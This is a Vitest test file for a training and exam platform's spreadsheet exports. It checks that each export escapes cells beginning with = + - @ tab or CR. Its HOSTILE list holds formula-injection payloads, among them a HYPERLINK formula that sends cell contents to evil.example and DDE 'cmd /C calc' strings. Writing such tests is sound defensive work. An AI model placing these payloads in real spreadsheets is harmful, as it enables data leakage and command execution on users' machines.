import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import type { Question } from '../../src/lib/question-bank/schema.ts';
import { buildTemplateXlsx, exportQuestionsXlsx, parseQuestionsXlsx } from '../../src/lib/server/question-bank/excel.ts';
import { buildStaffTemplateXlsx } from '../../src/lib/server/people/staff-excel.ts';
import { buildResultsXlsx, type ResultRow } from '../../src/lib/server/exams/results.query.ts';
import { buildArchiveXlsx } from '../../src/lib/server/study/archive-xlsx.ts';
import type { EnterpriseArchive, PersonArchive } from '../../src/lib/server/study/archive.query.ts';
import { streamXlsx } from '../../src/lib/server/coverage/xlsx-stream.ts';
import { GAP_COLUMNS, gapCells } from '../../src/lib/server/coverage/exports.ts';
import type { GapRow } from '../../src/lib/server/coverage/coverage.query.ts';
import { buildDirectoryTemplateXlsx } from '../../src/lib/server/orgs/directory-excel.ts';
import { buildNoticeXlsx } from '../../src/lib/server/supervision/notice-xlsx.ts';
import { attendanceXlsx } from '../../src/lib/server/live/attendance-export.ts';
import type { ConsoleView } from '../../src/lib/server/live/console.ts';
import type { LiveClassRow } from '../../src/lib/server/live/live.repository.ts';

// OWASP CSV injection: text beginning with = + - @ tab or CR must not reach a spreadsheet as is.
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
const h = (i: number) => HOSTILE[i % HOSTILE.length]!;
const DANGEROUS = /^[=+\-@\t\r]/;

/** Every text cell of every sheet; formulas count as dangerous too. */
async function dangerousCells(data: Buffer | Uint8Array): Promise<string[]> {
	const wb = new ExcelJS.Workbook();
	await wb.xlsx.load(data as unknown as ArrayBuffer);
	const found: string[] = [];
	wb.eachSheet((ws) =>
		ws.eachRow((row, r) =>
			row.eachCell((cell, c) => {
				const v = cell.value as unknown;
				const where = `${ws.name}!R${r}C${c}`;
				if (typeof v === 'string' && DANGEROUS.test(v)) found.push(`${where}: ${JSON.stringify(v)}`);
				if (v && typeof v === 'object' && ('formula' in v || 'sharedFormula' in v)) found.push(`${where}: formula`);
				if (v && typeof v === 'object' && 'richText' in v) {
					const text = (v as { richText: { text: string }[] }).richText.map((x) => x.text).join('');
					if (DANGEROUS.test(text)) found.push(`${where}: ${JSON.stringify(text)}`);
				}
			})
		)
	);
	return found;
}

async function textOf(data: Buffer | Uint8Array): Promise<string> {
	const wb = new ExcelJS.Workbook();
	await wb.xlsx.load(data as unknown as ArrayBuffer);
	const all: string[] = [];
	wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => void all.push(String(cell.value)))));
	return all.join('\n');
}

async function readStream(body: ReadableStream<Uint8Array>): Promise<Buffer> {
	return Buffer.from(await new Response(body).arrayBuffer());
}

const question = (i: number): Question => ({
	id: `inj-${String(i).padStart(4, '0')}`,
	type: 'single',
	stem: `${h(i)} 题干${i}`,
	options: { A: h(i + 1), B: h(i + 2), C: '正常选项', D: h(i + 3) },
	answer: 'A',
	explanation: h(i + 4),
	basis: [{ source: 'anquan-shengchan-fa-2021', ref: '第二十一条' }],
	knowledge: 'ch2',
	difficulty: 2
});

const resultRow = (i: number): ResultRow => ({
	attemptId: i,
	name: h(i),
	idNumber: h(i + 1),
	org: h(i + 2),
	attemptNo: 1,
	startedAt: null,
	finishedAt: null,
	finishReason: null,
	score: -5,
	possible: 100,
	passed: false,
	counts: false,
	flags: [{ code: 'x', label: h(i + 3), rule: 'r', count: 1 }],
	decision: null,
	decisionReason: null
});

const gapRow = (i: number) =>
	({ person_id: i, name: h(i), id_masked: h(i + 1), mobile_masked: h(i + 2), role_category: h(i + 3), org_name: h(i + 4), region_name: h(i + 5), study_missing: true, exam_missing: false, certificate_missing: false }) as unknown as GapRow;

const archive = (): { summary: EnterpriseArchive; details: PersonArchive[] } => {
	const summary = {
		org: { id: 1, name: h(0), industryName: null, highRisk: false },
		year: 2026,
		xueshiMinutes: 45,
		rows: HOSTILE.map((_, i) => ({ personId: i, name: h(i), idNumberMasked: h(i + 1), roleCategory: 'frontline', roleCategoryLabel: h(i + 2), position: h(i + 3), requirementTitle: h(i + 4), requiredXueshi: 20, creditedSeconds: 0, creditedXueshi: -1, liveSeconds: 0, replaySeconds: 0, coursesAssigned: 1, coursesCompleted: 0, lastStudyOn: h(i + 5), status: 'unmet' })),
		counts: { met: 0, unmet: 6, none: 0 }
	} as unknown as EnterpriseArchive;
	const details = HOSTILE.map((_, i) => ({
		person: { id: i, name: h(i), idNumberMasked: h(i + 1), roleCategoryLabel: h(i + 2) },
		courses: [{ title: h(i + 3), trainingTypeLabel: h(i + 4), planYear: 2026, dueOn: h(i + 5), enrolmentStatus: 'active', lessonsDone: 0, lessonsTotal: 1, creditedXueshi: 0, courseXueshi: 1, firstStudyOn: null, lastStudyOn: null, completedOn: null, completedAt: null }],
		live: [{ classId: i, title: h(i + 4), day: h(i + 5), liveSeconds: 60, replaySeconds: 0, replayRule: 'live_only', late: false, creditedLiveSeconds: 60, creditedReplaySeconds: 0, creditedXueshi: 0 }]
	})) as unknown as PersonArchive[];
	return { summary, details };
};

// One entry per export writer; the guard below fails when a writer is added without one.
const EXPORTS: Record<string, { file: string; build: () => Promise<Buffer> }> = {
	'question bank export': { file: 'src/lib/server/question-bank/excel.ts', build: () => exportQuestionsXlsx({ code: 'inj', name: h(0) }, HOSTILE.map((_, i) => question(i))) },
	'question bank template': { file: 'src/lib/server/question-bank/excel.ts', build: () => buildTemplateXlsx() },
	'staff template (special operations from the database)': {
		file: 'src/lib/server/people/staff-excel.ts',
		build: () => buildStaffTemplateXlsx(HOSTILE.map((_, i) => ({ code: h(i), category: h(i + 1), item: h(i + 2) })))
	},
	'exam results': { file: 'src/lib/server/exams/results.query.ts', build: () => buildResultsXlsx({ name: h(0), opensAt: new Date(0), closesAt: new Date(0) }, HOSTILE.map((_, i) => resultRow(i)), new Date(0)) },
	'live class attendance sheet': {
		file: 'src/lib/server/live/attendance-export.ts',
		build: () =>
			attendanceXlsx(
				{ title: h(0), lecturer_name: h(1), starts_at: new Date(0), ends_at: new Date(3600_000), replay_rule: 'live_only' } as unknown as LiveClassRow,
				{
					capHours: 1,
					streamMinutes: 1,
					rollCalls: 1,
					attendance: HOSTILE.map((_, i) => ({ personId: i, name: h(i), idNumber: h(i + 1), orgName: h(i + 2), roleCategory: h(i + 3), signedInAt: null, late: false, liveMinutes: 1, replayMinutes: 0, creditedHours: 0, rollCallsAnswered: 0, watching: false }))
				} as unknown as ConsoleView
			)
	},
	'training archive': { file: 'src/lib/server/study/archive-xlsx.ts', build: () => buildArchiveXlsx(archive().summary, archive().details, { generatedAt: new Date(0) }) },
	'enterprise directory template (regions and industries from the database)': {
		file: 'src/lib/server/orgs/directory-excel.ts',
		build: () =>
			buildDirectoryTemplateXlsx(
				HOSTILE.map((_, i) => ({ code: h(i), name: h(i + 1), parentName: h(i + 2) })),
				HOSTILE.map((_, i) => ({ code: h(i), name: h(i + 1), highRisk: i % 2 === 0 }))
			)
	},
	'督办 notice follow-up': {
		file: 'src/lib/server/supervision/notice-xlsx.ts',
		build: () =>
			buildNoticeXlsx(
				{ id: 1, regulator_org_id: 1, regulator_name: h(0), region_code: '500112', region_name: h(1), target_id: 1, target_title: h(2), goal_percent: 100, title: h(3), body: h(4), deadline: '2026-12-31', created_by: 1, created_by_name: h(5), created_at: new Date(0) },
				HOSTILE.map((_, i) => ({
					orgId: i,
					orgName: h(i),
					atSending: { required: 2, covered: 1, byRole: [{ role: h(i + 1), required: 2, covered: 1 }] },
					now: { required: 2, covered: 2, byRole: [{ role: h(i + 2), required: 2, covered: 2 }] },
					state: 'closed' as const,
					readAt: null,
					acknowledgedAt: new Date(0),
					acknowledgedBy: h(i + 3),
					ackNote: h(i + 4)
				}))
			)
	},
	'coverage tables (streamed)': {
		file: 'src/lib/server/coverage/xlsx-stream.ts',
		build: () =>
			readStream(
				streamXlsx(
					'未覆盖人员',
					[...GAP_COLUMNS, { header: h(1) }],
					(async function* () {
						for (let i = 0; i < HOSTILE.length; i++) yield [...gapCells(gapRow(i)), -3];
					})()
				)
			)
	}
};

function sourceFiles(dir: string): string[] {
	return readdirSync(dir).flatMap((name) => {
		const path = join(dir, name);
		return statSync(path).isDirectory() ? sourceFiles(path) : /\.(ts|svelte)$/.test(name) && !name.endsWith('.spec.ts') ? [path] : [];
	});
}

describe('spreadsheet formula injection', () => {
	it.each(Object.keys(EXPORTS))('%s: no text cell starts with = + - @ tab or CR', async (name) => {
		const data = await EXPORTS[name]!.build();
		expect(await dangerousCells(data)).toEqual([]);
	});

	it('keeps the hostile text (behind one quote) and numbers as numbers', async () => {
		const text = await textOf(await EXPORTS['exam results']!.build());
		expect(text).toContain(`'${HOSTILE[0]}`);
		const wb = new ExcelJS.Workbook();
		await wb.xlsx.load((await EXPORTS['coverage tables (streamed)']!.build()) as unknown as ArrayBuffer);
		expect(wb.worksheets[0]!.getRow(2).getCell(8).value).toBe(-3);
		const results = new ExcelJS.Workbook();
		await results.xlsx.load((await EXPORTS['exam results']!.build()) as unknown as ArrayBuffer);
		expect(results.worksheets[0]!.getRow(2).getCell(9).value).toBe(-5);
	});

	it('a bank exported with hostile text imports back unchanged', async () => {
		const questions = HOSTILE.map((_, i) => question(i));
		const parsed = await parseQuestionsXlsx(await exportQuestionsXlsx({ code: 'inj', name: '题库' }, questions));
		if (!parsed.ok) throw new Error(JSON.stringify(parsed.errors.slice(0, 3)));
		// the importer trims, as it always has, so a leading tab or CR is not kept
		expect(parsed.questions).toEqual(
			questions.map((q) => ({ ...q, stem: q.stem.trim(), explanation: q.explanation?.trim(), options: Object.fromEntries(Object.entries(q.options!).map(([k, v]) => [k, v.trim()])) }))
		);
	});

	it('every file that writes a spreadsheet is listed above, and only safe-cells.ts calls writeBuffer', () => {
		const writers = sourceFiles('src').filter((f) => /writeBuffer\(|WorkbookWriter|text\/csv|\.csv\b|addRow\(|addRows\(/.test(readFileSync(f, 'utf8')));
		const listed = new Set(Object.values(EXPORTS).map((e) => e.file));
		expect(writers.filter((f) => !listed.has(f) && f !== 'src/lib/server/excel/safe-cells.ts')).toEqual([]);
		const rawWrites = sourceFiles('src').filter((f) => f !== 'src/lib/server/excel/safe-cells.ts' && /\.writeBuffer\(/.test(readFileSync(f, 'utf8')));
		expect(rawWrites).toEqual([]);
	});
});
